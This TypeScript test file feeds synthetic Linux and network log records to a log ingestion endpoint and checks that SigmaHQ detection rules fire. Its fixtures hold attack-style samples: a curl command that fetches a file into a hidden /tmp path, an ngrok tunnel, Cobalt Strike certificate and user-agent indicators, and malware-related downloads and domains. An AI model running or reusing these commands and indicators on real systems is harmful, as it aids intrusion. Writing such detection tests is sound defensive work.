// Linux (Sysmon for Linux, auditd, syslog and journald) and network logs (Zeek, Squid, proxy
// records, BIND and dnsmasq query logs, firewall records) through POST /log_sink, each in its
// documented format: a SigmaHQ rule for each mapped logsource fires end to end.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeSigmaFamily, type SigmaCase } from '../helpers/sigma-cases.js';

const now = () => new Date().toISOString();
const epoch = () => Date.now() / 1000;

/** Sysmon for Linux's XML, rendered as JSON (the same Event schema as Windows, Linux-Sysmon channel). */
function sysmonLinux(eventId: number, data: Record<string, string>) {
  return {
    Event: {
      System: {
        Provider: { '@Name': 'Linux-Sysmon', '@Guid': '{ff032593-a8d3-4f13-b0d6-01fc615a0f97}' },
        EventID: eventId,
        Version: 5,
        Level: 4,
        TimeCreated: { '@SystemTime': now() },
        EventRecordID: 48211,
        Channel: 'Linux-Sysmon/Operational',
        Computer: 'build-07',
        Security: { '@UserId': '0' },
      },
      EventData: { Data: Object.entries(data).map(([name, text]) => ({ '@Name': name, '#text': text })) },
    },
  };
}

/** journalctl -o json. */
function journald(identifier: string, message: string, facility: string) {
  return {
    __REALTIME_TIMESTAMP: String(Date.now() * 1000),
    _HOSTNAME: 'build-07',
    SYSLOG_IDENTIFIER: identifier,
    SYSLOG_FACILITY: facility,
    PRIORITY: '6',
    _COMM: identifier,
    _PID: '1412',
    MESSAGE: message,
  };
}

/** A Zeek JSON log line (LogAscii::use_json) with its log name in `_path`, as json-streaming-logs writes it. */
function zeek(path: string | undefined, fields: Record<string, unknown>) {
  return {
    ...(path === undefined ? {} : { _path: path }),
    ts: epoch(),
    uid: 'CwWyXq3Zb1sN8dTk2',
    'id.orig_h': '10.20.30.42',
    'id.orig_p': 51514,
    'id.resp_h': '203.0.113.80',
    'id.resp_p': 80,
    ...fields,
  };
}

const cases: SigmaCase[] = [
  {
    name: 'Sysmon for Linux 1: curl runs',
    record: sysmonLinux(1, {
      RuleName: '-',
      UtcTime: now(),
      ProcessGuid: '{a1b2c3d4-0000-0000-0000-000000000001}',
      ProcessId: '31410',
      Image: '/usr/bin/curl',
      FileVersion: '-',
      CommandLine: 'curl -s -o /tmp/.x http://203.0.113.9/x',
      CurrentDirectory: '/var/www',
      User: 'www-data',
      LogonId: '33',
      ParentProcessId: '31400',
      ParentImage: '/bin/bash',
      ParentCommandLine: 'bash',
    }),
    rule: 'linux/process_creation/proc_creation_lnx_curl_usage.yml',
  },
  {
    name: 'Sysmon for Linux 11: /etc/doas.conf is created',
    record: sysmonLinux(11, {
      RuleName: '-',
      UtcTime: now(),
      ProcessGuid: '{a1b2c3d4-0000-0000-0000-000000000002}',
      ProcessId: '31502',
      Image: '/usr/bin/tee',
      TargetFilename: '/etc/doas.conf',
      CreationUtcTime: now(),
      User: 'root',
    }),
    rule: 'linux/file_event/file_event_lnx_doas_conf_creation.yml',
  },
  {
    name: 'Sysmon for Linux 3: a connection to an ngrok tunnel',
    record: sysmonLinux(3, {
      RuleName: '-',
      UtcTime: now(),
      ProcessGuid: '{a1b2c3d4-0000-0000-0000-000000000003}',
      ProcessId: '31610',
      Image: '/tmp/ngrok',
      User: 'www-data',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: '10.20.30.42',
      SourcePort: '40122',
      DestinationIsIpv6: 'false',
      DestinationIp: '3.134.125.175',
      DestinationHostname: 'tunnel.us.ngrok.com',
      DestinationPort: '443',
    }),
    rule: 'linux/network_connection/net_connection_lnx_ngrok_tunnel.yml',
  },
  {
    name: 'auditd SYSCALL record: split cuts a file into pieces',
    record: {
      type: 'SYSCALL',
      msg: 'audit(1732616100.123:4412):',
      arch: 'c000003e',
      syscall: '59',
      success: 'yes',
      exit: '0',
      ppid: '2211',
      pid: '2290',
      auid: '1000',
      uid: '1000',
      comm: 'split',
      exe: '/usr/bin/split',
      key: 'exec',
      node: 'build-07',
    },
    rule: 'linux/auditd/syscall/lnx_auditd_split_file_into_pieces.yml',
  },
  {
    name: 'rsyslog JSON, sshd: an error in libcrypto',
    record: {
      timestamp: now(),
      host: 'bastion-1',
      program: 'sshd',
      pid: '8812',
      facility: 'auth',
      severity: 'err',
      message: 'error: kex_exchange_identification: error in libcrypto',
    },
    rule: 'linux/builtin/sshd/lnx_sshd_susp_ssh.yml',
  },
  {
    name: 'journald, crontab: a crontab is replaced',
    record: journald('crontab', '(root) REPLACE (root)', '9'),
    rule: 'linux/builtin/cron/lnx_cron_crontab_file_modification.yml',
  },
  {
    name: 'journald, systemd: the firewall is stopped',
    record: journald('systemd', 'Stopping firewalld - dynamic firewall daemon...', '3'),
    rule: 'linux/builtin/syslog/lnx_syslog_security_tools_disabling_syslog.yml',
  },
  {
    name: 'syslog JSON, vsftpd: too many sessions',
    record: {
      timestamp: now(),
      host: 'ftp-1',
      program: 'vsftpd',
      message: 'Connection refused: too many sessions for this address.',
    },
    rule: 'linux/builtin/vsftpd/lnx_vsftpd_susp_error_messages.yml',
  },
  {
    name: 'syslog JSON, clamd: a trojan is found',
    record: {
      timestamp: now(),
      host: 'mail-1',
      program: 'clamd',
      message: '/var/spool/mail/tmp/att1.zip: Win.Trojan.Agent-1234 FOUND',
    },
    rule: 'linux/builtin/clamav/lnx_clamav_relevant_message.yml',
  },
  {
    name: 'Zeek http.log (with _path): a WebDAV PUT to a public address',
    record: zeek('http', {
      trans_depth: 1,
      method: 'PUT',
      host: '203.0.113.80',
      uri: '/webdav/payload.exe',
      version: '1.1',
      user_agent: 'Microsoft-WebDAV-MiniRedir/10.0.19045',
      request_body_len: 73802,
      response_body_len: 0,
      status_code: 201,
      status_msg: 'Created',
      resp_mime_types: ['application/x-dosexec'],
    }),
    rule: 'network/zeek/zeek_http_webdav_put_request.yml',
  },
  {
    name: 'Zeek dns.log (no _path): an NKN seed lookup',
    record: zeek(undefined, {
      'id.resp_h': '10.20.0.2',
      'id.resp_p': 53,
      proto: 'udp',
      trans_id: 40312,
      query: 'seed.nkn.org',
      qclass: 1,
      qclass_name: 'C_INTERNET',
      qtype: 1,
      qtype_name: 'A',
      rcode: 0,
      rcode_name: 'NOERROR',
      AA: false,
      RD: true,
      RA: true,
      Z: 0,
      answers: ['198.51.100.77'],
      rejected: false,
    }),
    rule: 'network/zeek/zeek_dns_nkn.yml',
  },
  {
    name: 'Zeek kerberos.log: an RC4 service ticket',
    record: zeek('kerberos', {
      'id.resp_h': '10.20.0.10',
      'id.resp_p': 88,
      request_type: 'TGS',
      client: 'alice/CORP.EXAMPLE',
      service: 'MSSQLSvc/sql01.corp.example:1433',
      success: true,
      cipher: 'rc4-hmac',
      forwardable: true,
      renewable: true,
    }),
    rule: 'network/zeek/zeek_susp_kerberos_rc4.yml',
  },
  {
    name: 'Zeek x509.log: Cobalt Strike’s default certificate',
    record: {
      _path: 'x509',
      ts: epoch(),
      id: 'FkYTxP2hjZ2mYbqUqj',
      'certificate.version': 3,
      'certificate.serial': '8BB00EE',
      'certificate.subject':
        'CN=Major Cobalt Strike,OU=AdvancedPenTesting,O=cobaltstrike,L=Somewhere,ST=Cyberspace,C=Earth',
      'certificate.issuer':
        'CN=Major Cobalt Strike,OU=AdvancedPenTesting,O=cobaltstrike,L=Somewhere,ST=Cyberspace,C=Earth',
      'certificate.key_alg': 'rsaEncryption',
      'certificate.key_length': 2048,
    },
    rule: 'network/zeek/zeek_default_cobalt_strike_certificate.yml',
  },
  {
    name: 'Zeek smb_files.log: the spoolss pipe is opened over IPC$',
    record: zeek('smb_files', {
      'id.resp_h': '10.20.0.15',
      'id.resp_p': 445,
      action: 'SMB::FILE_OPEN',
      path: '\\\\FILESRV01\\IPC$',
      name: 'spoolss',
      size: 0,
    }),
    rule: 'network/zeek/zeek_dce_rpc_smb_spoolss_named_pipe.yml',
  },
  {
    name: 'Squid native access.log line: a pwndrop download',
    record: {
      message: `${epoch().toFixed(3)}    212 10.20.30.42 TCP_MISS/200 48213 GET http://files.example.net/pwndrop/upd.exe - HIER_DIRECT/203.0.113.60 application/octet-stream`,
    },
    rule: 'web/proxy_generic/proxy_pwndrop.yml',
  },
  {
    name: 'proxy record in Sigma proxy names: a base64 user agent',
    record: {
      date: now().slice(0, 10),
      time: now().slice(11, 19),
      'c-ip': '10.20.30.42',
      'cs-method': 'GET',
      'c-uri': 'http://203.0.113.70/index.php',
      'cs-host': '203.0.113.70',
      'c-useragent': 'Q29iYWx0U3RyaWtlIEJlYWNvbg==',
      'sc-status': 200,
    },
    rule: 'web/proxy_generic/proxy_ua_susp_base64.yml',
  },
  {
    name: 'dnsmasq query log line: the Telegram bot API',
    record: { program: 'dnsmasq', host: 'gw-1', message: 'query[A] api.telegram.org from 10.20.30.42' },
    rule: 'network/dns/net_dns_susp_telegram_api.yml',
  },
  {
    name: 'BIND query log line: the WannaCry kill switch domain',
    record: {
      message:
        'client @0x7f3a2c00a1b0 10.20.30.42#53142 (ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com): query: ifferfsodp9ifjaposdfjhgosurijfaewrwergwea.com IN A +E(0)K (10.20.0.2)',
    },
    rule: 'network/dns/net_dns_wannacry_killswitch_domain.yml',
  },
  {
    name: 'firewall record: telnet accepted',
    record: {
      timestamp: now(),
      src_ip: '10.20.30.42',
      src_port: 50122,
      dst_ip: '10.20.0.30',
      dst_port: 23,
      proto: 'tcp',
      action: 'accept',
    },
    rule: 'network/firewall/net_firewall_cleartext_protocols.yml',
  },
];

const malformed = [
  zeek('dns', { query: null, answers: 'not-a-list' }),
  { message: '1732616100.000 abc 10.0.0.1 TCP_MISS/xyz' },
  sysmonLinux(1, {}),
];

describeSigmaFamily(
  'Linux and network logs',
  cases,
  (context) => {
    test('Sysmon for Linux process and network events fill the process and network tables', async () => {
      const db = context().server.sightline.database.db;
      const curl = await db
        .selectFrom('endpoint_process_events')
        .selectAll()
        .where('process_name', '=', 'curl')
        .executeTakeFirst();
      assert.equal(curl?.host, 'build-07');
      assert.equal(curl.parent_process_name, 'bash');
      const ngrok = await db
        .selectFrom('network_process_events')
        .selectAll()
        .where('process_name', '=', 'ngrok')
        .executeTakeFirst();
      assert.equal(ngrok?.destination_hostname, 'tunnel.us.ngrok.com');
      assert.equal(ngrok.direction, 'outbound');
    });
  },
  malformed,
);
